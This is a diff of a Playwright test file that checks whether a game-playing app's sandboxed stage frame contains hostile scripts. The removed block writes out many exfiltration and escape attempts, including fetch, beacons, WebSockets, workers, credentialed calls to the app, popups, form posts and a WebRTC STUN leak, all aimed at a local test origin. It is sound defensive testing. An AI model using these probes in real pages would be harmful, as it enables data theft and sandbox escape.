@@ -1,5 +1,6 @@
 import type { Frame, Page } from '@playwright/test';
 import { LOOT, type OtherProgram, startOtherProgram } from '../support/hostile-game.ts';
+import { DEPARTURES, POWERS, type StageAttack, TRAFFIC, toAttackScript, WORKERS } from '../support/stage-attacks.ts';
 import { expect, test } from './as-a-writer.ts';
 
 let other: OtherProgram;
@@ -12,13 +13,12 @@ const stageOf = (page: Page): Frame | undefined => page.frames().find((frame) =>
 
 /** The stage's frame, once the game's script ran in it. */
 async function findStage(page: Page): Promise<Frame> {
-  await expect
-    .poll(() =>
-      stageOf(page)
-        ?.evaluate(`typeof globalThis.${LOOT}`)
-        .catch(() => ''),
-    )
-    .toBe('object');
+  const kind = () =>
+    stageOf(page)
+      ?.evaluate(`typeof globalThis.${LOOT}`)
+      .catch(() => '');
+  // The engine draws on the processor here, and loads the game's scripts last.
+  await expect.poll(kind, { timeout: 60_000 }).toBe('object');
   return stageOf(page) as Frame;
 }
 
@@ -29,6 +29,12 @@ function listenToLoot(page: Page): { keys: () => string; isReady: () => boolean 
     if (message.text().startsWith('LOOT ')) heard.push(message.text().slice(5));
   });
   return { keys: () => heard.filter((word) => word !== 'ready').join(''), isReady: () => heard.includes('ready') };
+}
+
+/** The page's origin. Not `URL.origin`: Node has none for the desktop window's scheme. */
+function toOrigin(page: Page): string {
+  const { protocol, host } = new URL(page.url());
+  return `${protocol}//${host}`;
 }
 
 async function startListening(page: Page): Promise<ReturnType<typeof listenToLoot>> {
@@ -132,69 +138,117 @@ test.describe('a game that does not want to be left', () => {
   });
 });
 
-test.describe('a game that sends what it reads elsewhere', () => {
+test.describe('a game whose script never ends', () => {
+  test.use({ gameScript: `console.log('LOOT ready'); setTimeout(() => { for (;;); }, 2000);` });
+
+  test('leaves the app alive, and is loaded again when the user says so', async ({ app }) => {
+    const { page } = app;
+    let starts = 0;
+    page.on('console', (message) => {
+      if (message.text() === 'LOOT ready') starts += 1;
+    });
+    // The script may have run before there was a listener.
+    await page.waitForTimeout(4000);
+    const code = page.getByTestId('code');
+    await code.getByText('小满').first().click();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.type('; alive', { delay: 20 });
+    await expect(code.getByText('; alive')).toBeVisible();
+    const before = starts;
+    await page.getByRole('button', { name: 'Load the stage again' }).first().click();
+    await expect.poll(() => starts, { timeout: 30_000 }).toBeGreaterThan(before);
+  });
+});
+
+test.describe('a game that stores what it read', () => {
   test.use({
     gameScript: `
-      globalThis.__attack = async (elsewhere, app) => {
-        const attempt = async (name, action) => {
-          try { loot.got[name] = await Promise.race([action(), new Promise((done) => setTimeout(done, 4000, 'silence'))]); }
-          catch (error) { loot.got[name] = 'refused'; }
-        };
-        await attempt('fetch', async () => (await fetch(elsewhere + '/fetch', { mode: 'no-cors' })).type);
-        await attempt('beacon', async () => navigator.sendBeacon(elsewhere + '/beacon', 'x') && 'sent');
-        await attempt('image', () => new Promise((done) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => done('refused'); image.src = elsewhere + '/image'; }));
-        await attempt('socket', () => new Promise((done) => { const socket = new WebSocket(elsewhere.replace('http', 'ws') + '/socket'); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); }));
-        await attempt('serviceWorker', async () => { await navigator.serviceWorker.register('./lib/sw.js'); return 'registered'; });
-        await attempt('engineServiceWorker', async () => { await navigator.serviceWorker.register('./webgal-serviceworker.js'); return 'registered'; });
-        await attempt('worker', () => new Promise((done) => { const worker = new Worker('./lib/sw.js'); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));
-        await attempt('blobWorker', () => new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));
-        await attempt('sharedWorker', () => new Promise((done) => { const worker = new SharedWorker('./lib/sw.js'); worker.onerror = () => done('refused'); worker.port.onmessage = () => done('runs'); worker.port.start(); }));
-        await attempt('appCall', async () => (await fetch(app + '/call/app.info', { method: 'POST', body: '{}', credentials: 'include', headers: { 'content-type': 'application/json' } })).status);
-        await attempt('popup', async () => window.open(elsewhere + '/popup') ? 'opened' : 'refused');
-        await attempt('top', async () => { top.location.href = elsewhere + '/top'; return 'asked'; });
-        await attempt('prefetch', async () => { for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'manifest', 'icon', 'stylesheet']) { const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = elsewhere + '/link-' + rel; document.head.append(link); } return 'asked'; });
-        await attempt('form', async () => { const form = document.createElement('form'); form.action = elsewhere + '/form'; form.method = 'post'; document.body.append(form); form.submit(); return 'asked'; });
-        await attempt('innerFrame', async () => { const inner = document.createElement('iframe'); inner.src = elsewhere + '/inner'; document.body.append(inner); const blank = document.createElement('iframe'); document.body.append(blank); const link = blank.contentDocument.createElement('img'); link.src = elsewhere + '/blank-image'; blank.contentDocument.body.append(link); return 'asked'; });
-        await attempt('webrtc', async () => {
-          const blank = document.createElement('iframe'); document.body.append(blank);
-          const Peer = blank.contentWindow.RTCPeerConnection ?? globalThis.RTCPeerConnection;
-          if (!Peer) return 'absent';
-          const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(elsewhere).port }] });
-          peer.createDataChannel('x');
-          const candidates = [];
-          peer.onicecandidate = ({ candidate }) => { if (candidate) candidates.push(candidate.candidate); };
-          await peer.setLocalDescription(await peer.createOffer());
-          await new Promise((done) => setTimeout(done, 1000));
-          return 'candidates: ' + candidates.length;
-        });
-        await attempt('self', async () => { setTimeout(() => { location.href = elsewhere + '/self'; }, 50); return 'asked'; });
-        return true;
-      };`,
+      const left = [localStorage.getItem('left'), /left/.exec(document.cookie)?.[0] ?? null];
+      console.log('LOOT found ' + JSON.stringify(left));
+      localStorage.setItem('left', 'x');
+      document.cookie = 'left=1; max-age=9999';`,
   });
 
-  test('reaches nothing but its own stage', async ({ app }, { project }) => {
+  test('finds nothing of it on the next page', async ({ app }) => {
+    const { page } = app;
+    const heard: string[] = [];
+    page.on('console', (message) => {
+      if (message.text().startsWith('LOOT ')) heard.push(message.text());
+    });
+    for (let pages = 1; pages <= 2; pages += 1) {
+      heard.length = 0;
+      await page.reload();
+      await expect.poll(() => heard, { timeout: 40_000 }).toContain('LOOT found [null,null]');
+      expect(new Set(heard)).toEqual(new Set(['LOOT found [null,null]']));
+    }
+  });
+});
+
+test.describe('a game that tries whatever a browser offers', () => {
+  test.use({ gameScript: toAttackScript([...TRAFFIC, ...WORKERS, ...POWERS]) });
+  test.setTimeout(180_000);
+
+  test('reaches nothing but its own stage, runs nothing beside it, and is granted nothing', async ({ app }) => {
     const { page } = app;
     const frame = await findStage(page);
-    // Not `URL.origin`: Node has none for the desktop window's scheme.
-    const appOrigin = page.url().replace(/\/$/, '');
-    await frame.evaluate(`__attack(${JSON.stringify(other.origin)}, ${JSON.stringify(appOrigin)})`);
-    const { got } = (await frame.evaluate(`globalThis.${LOOT}`)) as { got: Record<string, unknown> };
-    await page.waitForTimeout(1500);
+    const appOrigin = toOrigin(page);
+    const attempt = async (rows: readonly StageAttack[]) => {
+      const outcomes: Record<string, string> = {};
+      for (let at = 0; at < rows.length; at += 25) {
+        const names = rows.slice(at, at + 25).map(({ name }) => name);
+        const call = `Promise.all(${JSON.stringify(names)}.map((name) => __attempt(name, ${JSON.stringify(other.origin)}, ${JSON.stringify(appOrigin)})))`;
+        const answers = (await frame.evaluate(call)) as string[];
+        for (const [index, name] of names.entries()) outcomes[name] = answers[index] ?? '';
+      }
+      return outcomes;
+    };
+    const granted = (outcomes: Record<string, string>) =>
+      Object.entries(outcomes).filter(([, outcome]) => !/^(refused|asked$)/.test(outcome));
+
+    await attempt(TRAFFIC);
+    expect(granted(await attempt(WORKERS))).toEqual([]);
+    expect(granted(await attempt(POWERS))).toEqual([]);
+    await page.waitForTimeout(1000);
     expect(other.requests.map(({ url }) => url)).toEqual([]);
+    expect([other.connections(), other.packets()]).toEqual([0, 0]);
     expect(page.url().startsWith(appOrigin)).toBe(true);
-    expect(page.frames().some((each) => each.url().startsWith(other.origin))).toBe(false);
-    expect(got).toMatchObject({
-      fetch: 'refused',
-      image: 'refused',
-      socket: 'refused',
-      serviceWorker: 'refused',
-      engineServiceWorker: 'refused',
-      worker: 'refused',
-      blobWorker: 'refused',
-      appCall: 'refused',
-      popup: 'refused',
-    });
-    // No page can close WebRTC in a browser for the frames that a game makes; the desktop host does.
-    if (project.name === 'electron') expect(other.packets()).toBe(0);
+    expect(page.context().pages()).toHaveLength(1);
+
+    const problems = page.getByRole('region', { name: 'Problems on stage' });
+    await expect(problems).toContainText('This game tried to reach');
+    expect(await problems.getByRole('listitem').count()).toBeLessThanOrEqual(50);
+  });
+});
+
+test.describe('a game that leaves its page', () => {
+  test.use({ gameScript: toAttackScript(DEPARTURES) });
+  test.setTimeout(300_000);
+
+  test('gets nowhere, and comes back when the user loads the stage again', async ({ app }) => {
+    const { page } = app;
+    const appOrigin = toOrigin(page);
+    const comeBack = () =>
+      expect(async () => {
+        if (!stageOf(page)) await page.getByRole('button', { name: 'Load the stage again' }).first().click();
+        expect(await stageOf(page)?.evaluate('typeof __attempt')).toBe('function');
+      }).toPass({ intervals: [500, 8000], timeout: 60_000 });
+    for (const { name } of DEPARTURES) {
+      await comeBack();
+      const call = `__attempt(${JSON.stringify(name)}, ${JSON.stringify(other.origin)}, ${JSON.stringify(appOrigin)})`;
+      // Its answer may go with the page that would give it.
+      await stageOf(page)
+        ?.evaluate(`void setTimeout(() => ${call})`)
+        .catch(() => undefined);
+      await page.waitForTimeout(1000);
+      const urls = page.frames().flatMap((each) => (each === page.mainFrame() ? [] : [each.url()]));
+      expect(
+        urls.filter((url) => /^(blob|data|file|app|http:\/\/127)/.test(url)),
+        name,
+      ).toEqual([]);
+      expect(page.url(), name).toBe(`${appOrigin}/`);
+    }
+    await comeBack();
+    expect(other.requests.map(({ url }) => url)).toEqual([]);
+    expect(other.connections()).toBe(0);
   });
 });
